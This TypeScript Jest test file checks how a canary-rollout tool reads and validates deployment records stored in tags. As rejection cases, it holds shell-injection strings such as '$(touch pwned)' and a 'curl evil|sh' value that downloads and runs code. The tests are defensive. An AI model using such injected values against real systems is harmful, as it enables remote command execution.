import { describe, expect, it } from '@jest/globals';
import {
  canaryTag,
  pauseTag,
  type RolloutRecord,
  readStoredState,
  recordTags,
} from '../../../src/rollout/record.ts';
import { sealText } from '../../../src/rollout/record-text.ts';
import type { TargetCodec } from '../../../src/rollout/target-record.ts';
import { aliasCodec } from '../../../src/targets/alias/alias-record.ts';
import { stageCodec } from '../../../src/targets/stage/stage-record.ts';
import { makeRecord, STAGE_RECORD, STARTED_AT } from './rollout-fixture.ts';

const URI = 'arn:aws:apigateway:eu-west-1:lambda:path/2015-03-31/functions/arn:orders';

const OF_STAGE = makeRecord({
  plan: {
    steps: [{ weight: 5, holdSeconds: 300 }],
    advance: { kind: 'evidence', minSeconds: 60, maxSeconds: 600 },
    bakeSeconds: 0,
  },
  target: {
    ...STAGE_RECORD,
    variables: { version: '7', fresh: null },
    overrides: { version: '8', fresh: 'https://x/~a?b=1&c=2,3#d' },
    drafts: [
      {
        resourceId: 'abc123',
        method: 'GET',
        from: `${URI}:7/invocations`,
        to: `${URI}:8/invocations`,
      },
    ],
    shadow: 'prod-canary-shadow',
    warmed: { orders: 3 },
  },
  pull: 12,
  preview: 12,
});
const OF_ALIAS = makeRecord({
  plan: { steps: [], advance: { kind: 'time', maxSeconds: 600 }, bakeSeconds: 60 },
  target: { kind: 'alias', aliases: { orders: 'live' }, warmed: { orders: 3 }, kept: ['orders'] },
});

type Path = readonly (string | number)[];

/** Every member of a value, at any depth. */
function pathsIn(value: unknown, path: Path = []): readonly Path[] {
  const deeper =
    typeof value === 'object' && value !== null
      ? Object.entries(value).flatMap(([name, one]) => pathsIn(one, [...path, name]))
      : [];
  return path.length > 0 ? [path, ...deeper] : deeper;
}

/** The same record with another value at one path; `undefined` removes the member. */
function withMember(record: RolloutRecord, path: Path, value: unknown): RolloutRecord {
  const copy = structuredClone(record);
  const last = path.at(-1) ?? '';
  const holder = path.slice(0, -1).reduce((at, name) => (at as never)[name], copy as object);
  Object.assign(holder, { [last]: value });
  return copy;
}

/** With a valid checksum, which anyone who may write tags can create. */
const read = (record: RolloutRecord, codec: TargetCodec) =>
  readStoredState(
    {
      'canary-action:phase': 'preparing',
      'canary-action:record.1-1': sealText(JSON.stringify({ v: 1, ...record })),
    },
    codec,
  );
const KINDS = [
  [OF_STAGE, stageCodec],
  [OF_ALIAS, aliasCodec],
] as const;
const cases = KINDS.flatMap(([record, codec]) =>
  pathsIn(record).map((path) => [path.join('.'), record, path, codec] as const),
);

/** Members that may be absent or empty. */
const OPTIONAL =
  /^(pull|preview|plan\.advance\.maxSeconds|target\.(shadow|warmed|kept)(\..*)?|target\.variables\.fresh)$/;

describe('A record', () => {
  it('of a stage and of an alias is read as it was written', () => {
    for (const [record, codec] of KINDS) {
      expect(read(record, codec)).toMatchObject({ kind: 'rollout', storedRollout: { record } });
    }
  });

  it('is unreadable if it is of another kind of target, and reports this', () => {
    const why = 'its tags belong to a rollout of another kind of target';
    expect(read(OF_STAGE, aliasCodec)).toEqual({ kind: 'unreadable', why });
    expect(read(OF_ALIAS, stageCodec)).toEqual({ kind: 'unreadable', why });
  });

  it.each(cases)('is unreadable if %s has another type', (_, record, path, codec) => {
    const good = path.reduce((at, name) => (at as never)[name], record as unknown);
    for (const junk of [{ x: 1 }, [[]], true, 'x y', 7.5, -1, 1e30, null]) {
      if (typeof junk === typeof good && typeof junk === 'boolean') continue;
      if (junk === 7.5 && typeof good === 'number') continue;
      if (junk === null && path.join('.').startsWith('target.variables.')) continue;
      expect([junk, read(withMember(record, path, junk), codec).kind]).toEqual([
        junk,
        'unreadable',
      ]);
    }
  });

  it.each(cases)(
    'is unreadable without %s, unless that may be left out',
    (_, record, path, codec) => {
      const { kind } = read(withMember(record, path, undefined), codec);
      expect(kind).toBe(
        OPTIONAL.test(path.join('.')) && kind === 'rollout' ? 'rollout' : 'unreadable',
      );
    },
  );

  it.each(cases)('is unreadable if %s could end a word of a shell', (_, record, path, codec) => {
    for (const text of ["1'; touch pwned; '", '$(touch pwned)', '`touch pwned`', 'x\ny', '7"']) {
      expect(read(withMember(record, path, text), codec).kind).toBe('unreadable');
    }
  });

  it.each<[string, Partial<RolloutRecord>]>([
    ['names a function twice', { functions: [...OF_ALIAS.functions, ...OF_ALIAS.functions] }],
    [
      'has a function without an alias',
      { target: { kind: 'alias', aliases: { payments: 'live' } } },
    ],
    ['has a number for an alias', { target: { kind: 'alias', aliases: { orders: '7' } } }],
    ['releases $LATEST', { functions: [{ name: 'orders', from: '7', to: '$LATEST' }] }],
    [
      'restores a variable that it does not override',
      { target: { ...STAGE_RECORD, overrides: {} } },
    ],
    [
      'has a method that API Gateway has not',
      {
        target: {
          ...STAGE_RECORD,
          drafts: [{ resourceId: 'a', method: 'TRACE', from: URI, to: URI }],
        },
      },
    ],
  ])('is unreadable where it %s', (_, parts) => {
    const record = makeRecord({ ...parts });
    const codec = record.target.kind === 'alias' ? aliasCodec : stageCodec;
    expect(read(record, codec).kind).toBe('unreadable');
  });

  it('is unreadable if the deployment of its canary, or its pause, is malformed', () => {
    const tags = recordTags(OF_STAGE, { kind: 'preparing' });
    const pause = pauseTag({ since: STARTED_AT, by: OF_STAGE.id });
    expect(readStoredState({ ...tags, ...canaryTag('new222'), ...pause }, stageCodec).kind).toBe(
      'rollout',
    );
    for (const strange of [
      canaryTag('x; curl evil|sh #'),
      canaryTag(''),
      { 'canary-action:paused': 'yes' },
    ]) {
      expect(readStoredState({ ...tags, ...strange }, stageCodec).kind).toBe('unreadable');
    }
  });
});
